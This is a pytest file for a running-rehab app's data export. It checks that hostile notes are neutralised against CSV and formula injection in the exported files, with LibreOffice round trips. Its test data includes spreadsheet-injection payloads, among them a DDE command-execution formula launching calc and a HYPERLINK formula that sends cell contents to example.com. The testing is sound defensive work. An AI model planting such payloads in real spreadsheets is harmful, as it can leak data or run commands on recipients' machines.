"""Export safety: hostile text in every field a person types comes out neutralised in the
CSVs, and both Python's csv module and LibreOffice Calc read the same cells back; the xlsx
keeps every note exactly, typed.

A text cell starting with =, +, -, @, tab or CR gets a leading apostrophe (OWASP, CSV
injection), and so does a formula start after a separator or line break inside it: a
spreadsheet told to split on ";" or tab does not see the quotes mid-line. LibreOffice
(Debian's libreoffice-calc, headless, formula evaluation on) converts each CSV to xlsx,
splitting on comma, semicolon, tab, or all three: no cell anywhere is a formula (a control
CSV in the old unquoted format shows the same conversion does run formulas). With the
file's own comma, a neutralised cell is text that keeps its apostrophe, a number is a
number, and the CSV written back holds the same cells as Python's reading of ours.
LibreOffice also reads the xlsx export: dates are dates, numbers numbers, and notes such
as ``00123``, ``50%`` and ``1/2`` stay the text typed. Skipped only where ``soffice`` is
not installed (.ci/run installs it). tests/core/test_export.py covers the cell rules and a
failed export; tests/reliability/test_damaged_files.py a real full disk.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from core.exchange.demo import create_demo
from core.exchange.export import FORMULA_STARTS, export
from core.model import Actor, ReadinessTest, SessionKind, Stage

END = dt.date(2026, 6, 28)
HOSTILE = [
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1 after a tab",
    "\r=1+1 after a CR",
    "=cmd|' /C calc'!A0",
]
# Formulas a spreadsheet would find by splitting the line on a separator or a line break.
SPLIT_HOSTILE = [
    "sore;=2*21",
    "fine\t=3+4",
    "ok,=1+1",
    "x;=1+1;y",
    "sore; =2*21",
    "line\n=5+5",
]
AWKWARD = [  # not formulas: kept exactly
    'Knee "clicky", then fine',
    "first line\nsecond line",
    "emoji 🏃‍♀️ and עברית and العربية",
    "'already quoted",
    "x" * 5000,
]
CHANGED_BY_SPREADSHEETS = ["00123", "50%", "1/2", "3e5", "TRUE"]  # typed cells keep them
WORKBOOK_FILE = "runback.xlsx"


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> tuple[Path, list[str]]:
    """A 12-week demo plus every hostile text in every field a person types."""
    folder = tmp_path_factory.mktemp("export")
    runback = create_demo(folder / "runner.db", weeks=12, end=END)
    texts = HOSTILE + SPLIT_HOSTILE + AWKWARD + CHANGED_BY_SPREADSHEETS
    days = [END - dt.timedelta(days=n) for n in range(len(texts))]
    for text, day in zip(texts, days, strict=True):
        runback.log_cross_training("swim", 20, 3, 0, notes=text, date=day)
        for same_day in runback.log.sessions_of(SessionKind.WALK_RUN).between(day, day):
            runback.delete_session(same_day.id)  # one walk-run a day: this one holds the text
        runback.log_walk_run(8, 1, 2, 1, 4, notes=text, date=day)
        runback.log_run("easy", 25, 4, 1, notes=text, date=day)
        runback.log_readiness(ReadinessTest.JOG_ON_SPOT, True, 1, notes=text, date=day)
        runback.change_plan("pain.threshold", 3, text, Actor.PHYSIO)
    runback.set_stage(Stage.MECHANICS, HOSTILE[0])
    # Under short names (the export's own say whose and when: runback-runner-<date>-…):
    # LibreOffice names what it converts after them.
    (folder / "out").mkdir()
    for path in export(runback, folder / "exported"):
        path.rename(folder / "out" / path.name.rsplit("-", 1)[1])
    (folder / "xlsx").mkdir()
    (book,) = export(runback, folder / "exported", "xlsx")
    book.rename(folder / "xlsx" / WORKBOOK_FILE)
    runback.close()
    return folder / "out", texts


def neutral(text: str) -> str:
    """The documented rule: an apostrophe before a formula start at the beginning, and
    after a separator or line break (and any spaces) inside."""
    text = "'" + text if text.startswith(FORMULA_STARTS) else text
    return re.sub(r"([;,\t\r\n] *)([=+\-@])", r"\1'\2", text)


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def test_hostile_text_is_neutralised_in_every_field_of_both_files(exported):
    out, texts = exported
    sessions, summary = read(out / "sessions.csv"), read(out / "summary.csv")
    header = sessions[0]
    notes = [r[header.index("notes")] for r in sessions[1:]]
    reasons = [r[header.index("reason")] for r in sessions[1:]
               if r[header.index("entry")] == "plan_change"]
    for text in texts:
        # the notes of three sessions and a readiness check, each kept exactly
        assert notes.count(neutral(text)) == 4, text[:30]
        # a physio's reason, kept without the spaces around it (and so without the tab/CR)
        assert neutral(text.strip()) in reasons, text[:30]
    for table in (sessions, summary):
        for row in table[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or is_number(cell), cell[:40]
    stage_rows = [r for r in sessions[1:] if r[header.index("entry")] == "stage_event"]
    assert stage_rows[-1][header.index("reason")] == "'" + HOSTILE[0]


# --- LibreOffice ------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# The LibreOffice round trips (about 13 s in all) run in .ci/run's slow step, not in a
# developer's quick run.
LIBREOFFICE = pytest.mark.slow
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def needs_libreoffice() -> None:
    if SOFFICE is None:
        pytest.skip("LibreOffice (soffice) is not installed; .ci/run installs "
                    "libreoffice-calc")


def soffice(profile: Path, outdir: Path, target: str, *files: Path, infilter: str = "",
            produced: bool = True) -> None:
    command = [SOFFICE, "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}",
               "--convert-to", target, "--outdir", str(outdir)]
    if infilter:
        command.append(f"--infilter={infilter}")
    result = subprocess.run([*command, *map(str, files)], capture_output=True, text=True,
                            timeout=240)
    assert result.returncode == 0, result.stderr
    for path in files if produced else ():
        made = outdir / f"{path.stem}.{target.split(':')[0]}"
        assert made.exists(), (result.stdout, result.stderr)


def xlsx_cells(path: Path, sheet_number: int = 1
               ) -> dict[tuple[int, int], tuple[str, str, bool]]:
    """Every cell of a sheet: (row, column) -> (type, text, is a formula)."""
    with zipfile.ZipFile(path) as book:
        strings = []
        if "xl/sharedStrings.xml" in book.namelist():
            for item in ElementTree.fromstring(book.read("xl/sharedStrings.xml")):
                strings.append("".join(t.text or "" for t in item.iter(f"{MAIN}t")))
        sheet = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet_number}.xml"))
    cells = {}
    for cell in sheet.iter(f"{MAIN}c"):
        row, column = position(cell.get("r"))
        kind = cell.get("t", "n")
        value = cell.find(f"{MAIN}v")
        text = value.text if value is not None else ""
        if kind == "s":
            text = strings[int(text)]
        elif kind == "inlineStr":
            text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
        cells[(row, column)] = (kind, text, cell.find(f"{MAIN}f") is not None)
    return cells


def position(reference: str) -> tuple[int, int]:
    """``"AB12"`` -> (12, 28)."""
    letters = "".join(ch for ch in reference if ch.isalpha())
    column = 0
    for letter in letters:
        column = column * 26 + ord(letter) - 64
    return int(reference[len(letters):]), column


def date_styles(path: Path) -> set[str]:
    """The style indexes whose number format shows a date."""
    with zipfile.ZipFile(path) as book:
        styles = ElementTree.fromstring(book.read("xl/styles.xml"))
    codes = {f.get("numFmtId"): f.get("formatCode", "") for f in styles.iter(f"{MAIN}numFmt")}
    dated = {fid for fid, code in codes.items() if "yy" in code.lower()} | {
        str(n) for n in range(14, 23)}  # Excel's built-in date formats
    xfs = styles.find(f"{MAIN}cellXfs")
    return {str(i) for i, xf in enumerate(xfs) if xf.get("numFmtId") in dated}


def cell_styles(path: Path, sheet_number: int) -> dict[tuple[int, int], str]:
    """(row, column) -> the cell's style index, for every cell of a sheet."""
    with zipfile.ZipFile(path) as book:
        sheet = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet_number}.xml"))
    return {position(cell.get("r")): cell.get("s", "0") for cell in sheet.iter(f"{MAIN}c")}


@pytest.fixture(scope="module")
def libreoffice(exported, tmp_path_factory) -> dict[str, tuple[Path, Path]]:
    """Each CSV converted by LibreOffice to xlsx, and that xlsx back to CSV."""
    needs_libreoffice()
    out, _ = exported
    work = tmp_path_factory.mktemp("libreoffice")
    profile, books, back = work / "profile", work / "xlsx", work / "csv"
    names = ("sessions", "summary")
    # comma, double quote, UTF-8 (76), from line 1: the export's own format
    soffice(profile, books, "xlsx", *(out / f"{n}.csv" for n in names),
            infilter="CSV:44,34,76,1")
    soffice(profile, back, "csv:Text - txt - csv (StarCalc):44,34,76,1",
            *(books / f"{n}.xlsx" for n in names))
    return {n: (books / f"{n}.xlsx", back / f"{n}.csv") for n in names}


@LIBREOFFICE
@pytest.mark.parametrize("name", ["sessions", "summary"])
def test_libreoffice_reads_the_same_cells_as_python(exported, libreoffice, name):
    """Cells a spreadsheet turns into something else however they are quoted (``00123`` →
    123, ``TRUE`` → a boolean) are the CSV's known limit: the xlsx keeps them (below)."""
    out, _ = exported
    ours = read(out / f"{name}.csv")
    book, back = libreoffice[name]
    cells = xlsx_cells(book)
    assert not [ref for ref, (_, _, formula) in cells.items() if formula], "a formula ran"
    changed = set(CHANGED_BY_SPREADSHEETS)
    for r, row in enumerate(ours, start=1):
        for c, text in enumerate(row, start=1):
            kind, value, _ = cells.get((r, c), ("", "", False))
            if text in changed:
                continue
            if text == "":
                assert value == "", (r, c)
            elif is_number(text):
                assert kind == "n" and float(value) == pytest.approx(float(text)), (r, c, text)
            elif _is_iso_date(text):
                assert kind == "n", (r, c, text)  # a real date, not text
            else:
                assert kind in ("s", "inlineStr", "str"), (r, c, text[:40])
                assert value == one_line_break(text), (r, c, text[:40])
    theirs = read_back(back)
    expected = [[one_line_break(text) for text in row] for row in ours]
    assert len(theirs) == len(expected)
    for mine, read_by_calc in zip(expected, theirs, strict=True):
        assert [a for a in read_by_calc] == [
            b if b not in changed else a for a, b in zip(read_by_calc, mine, strict=True)]


# Calc's CSV filter options: separator(s), quote ("), UTF-8 (76), from line 1, no column
# formats, English (1033), quoted field as text off, detect special numbers on, three
# defaults, all sheets (-1), evaluate formulas ON: what a physio's Calc does.
SEPARATORS = {"tab": "9", "comma": "44", "semicolon": "59", "all three": "9/44/59"}


def calc_options(separators: str) -> str:
    return f"CSV:{separators},34,76,1,,1033,false,true,false,false,false,-1,true"


@pytest.fixture(scope="module")
def split_by_calc(exported, tmp_path_factory) -> dict[str, Path]:
    """Both CSVs read by Calc splitting on each separator (or all three), as xlsx."""
    needs_libreoffice()
    out, _ = exported
    work = tmp_path_factory.mktemp("separators")
    books = {}
    for name, separators in SEPARATORS.items():
        soffice(work / "profile", work / name, "xlsx", out / "sessions.csv", out / "summary.csv",
                infilter=calc_options(separators))
        books[name] = work / name
    return books


@LIBREOFFICE
@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("name", ["sessions", "summary"])
def test_no_separator_turns_a_note_into_a_formula(split_by_calc, separator, name):
    cells = xlsx_cells(split_by_calc[separator] / f"{name}.xlsx")
    formulas = {ref: value for ref, (_, value, formula) in cells.items() if formula}
    assert formulas == {}, f"{len(formulas)} formulas ran, e.g. {list(formulas.items())[:3]}"


@LIBREOFFICE
def test_the_check_sees_a_formula_when_a_cell_is_not_protected(tmp_path):
    """Control: the same conversion runs the formula in yesterday's unquoted format."""
    needs_libreoffice()
    old = tmp_path / "old.csv"
    old.write_bytes(b'date,notes\r\n2026-03-02,sore;=2*21\r\n')
    soffice(tmp_path / "profile", tmp_path / "out", "xlsx", old, infilter=calc_options("59"))
    cells = xlsx_cells(tmp_path / "out" / "old.xlsx")
    assert [ref for ref, (_, _, formula) in cells.items() if formula] == [(2, 2)]


@LIBREOFFICE
def test_flags_never_spill_into_the_next_column(exported, split_by_calc):
    out, _ = exported
    summary = read(out / "summary.csv")
    flags = [row[-1] for row in summary[1:] if row[-1]]
    assert flags and not [f for f in flags if ";" in f or "\t" in f]
    cells = xlsx_cells(split_by_calc["semicolon"] / "summary.xlsx")
    assert max(c for _, c in cells) == 1  # the whole comma-separated line in one cell


# --- the xlsx export, read by LibreOffice ----------------------------------------------

# Columns of text (a reason or note may look like a number, and stays text).
TEXT_COLUMNS = {"entry", "kind", "activity", "run_type", "decision", "rule", "setting",
                "actor", "reason", "notes", "iso_week", "flags"}


@pytest.fixture(scope="module")
def workbook(exported, tmp_path_factory) -> dict[str, object]:
    """Our runback.xlsx as LibreOffice reads it: re-saved as xlsx, and each sheet as CSV."""
    needs_libreoffice()
    out, _ = exported
    ours = out.parent / "xlsx" / WORKBOOK_FILE
    work = tmp_path_factory.mktemp("workbook")
    soffice(work / "profile", work / "xlsx", "xlsx", ours)
    # -1: every sheet, each to <name>-<sheet>.csv
    soffice(work / "profile", work / "csv", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,"
            "false,true,false,false,false,-1", ours, produced=False)
    return {"ours": ours, "book": work / "xlsx" / WORKBOOK_FILE, "csv": work / "csv"}


@LIBREOFFICE
@pytest.mark.parametrize("sheet, name", [(1, "summary"), (2, "sessions")])
def test_the_xlsx_has_typed_cells_that_libreoffice_keeps(exported, workbook, sheet, name):
    out, texts = exported
    rows = read(out / f"{name}.csv")
    header = rows[0]
    cells = xlsx_cells(workbook["book"], sheet)
    styles, dated = cell_styles(workbook["book"], sheet), date_styles(workbook["book"])
    assert not [ref for ref, (_, _, formula) in cells.items() if formula], "a formula"
    assert [cells[(1, c)][1] for c in range(1, len(header) + 1)] == list(header)
    for r, row in enumerate(rows[1:], start=2):
        for c, text in enumerate(row, start=1):
            kind, value, _ = cells.get((r, c), ("", "", False))
            column = header[c - 1]
            if text == "":
                assert value == "", (r, column)
            elif column in ("date", "week_start"):
                assert kind == "n" and styles[(r, c)] in dated, (r, column)  # a date
            elif is_number(text) and column not in TEXT_COLUMNS:
                assert kind == "n" and float(value) == pytest.approx(float(text)), (r, column)
            else:  # text exactly as typed: no apostrophe added, nothing converted
                assert kind in ("s", "inlineStr", "str"), (r, column, text[:30])
    if name == "sessions":
        notes = {cells[(r, header.index("notes") + 1)][1] for r in range(2, len(rows) + 1)
                 if (r, header.index("notes") + 1) in cells}
        for text in texts:
            assert text in notes, text[:30]  # exactly as typed, a CR included


@LIBREOFFICE
def test_the_xlsx_read_back_as_text_keeps_notes_and_iso_dates(workbook):
    sessions = read_back(next(workbook["csv"].glob("*-sessions.csv")))
    header = sessions[0]
    notes = [row[header.index("notes")] for row in sessions[1:]]
    for text in CHANGED_BY_SPREADSHEETS:
        assert text in notes, text  # 00123, 50%, 1/2 … as typed, not 123, 0.5, a date
    assert all(_is_iso_date(row[0]) for row in sessions[1:])


@LIBREOFFICE
def test_the_xlsx_freezes_its_header_and_sizes_its_columns(workbook):
    with zipfile.ZipFile(workbook["ours"]) as book:
        names = book.namelist()
        sheets = [ElementTree.fromstring(book.read(f"xl/worksheets/sheet{n}.xml"))
                  for n in (1, 2)]
        order = ElementTree.fromstring(book.read("xl/workbook.xml"))
    assert [s.get("name") for s in order.iter(f"{MAIN}sheet")] == ["summary", "sessions",
                                                                   "scores", "checkins"]
    assert "xl/worksheets/sheet2.xml" in names
    for sheet in sheets:
        pane = sheet.find(f".//{MAIN}pane")
        assert pane is not None and pane.get("ySplit") == "1" and pane.get("state") == "frozen"
        widths = [float(col.get("width")) for col in sheet.iter(f"{MAIN}col")]
        assert widths and max(widths) <= 63 and min(widths) >= 4


def one_line_break(text: str) -> str:
    """LibreOffice keeps every line break inside a cell as a line feed: a CR (or CR LF) in
    a note comes back as LF. The cell is still the same text, neutralised or not."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _is_iso_date(text: str) -> bool:
    try:
        dt.date.fromisoformat(text)
    except ValueError:
        return False
    return len(text) == 10


def read_back(path: Path) -> list[list[str]]:
    """LibreOffice's CSV: no byte-order mark, LF line ends; the cells are what count."""
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
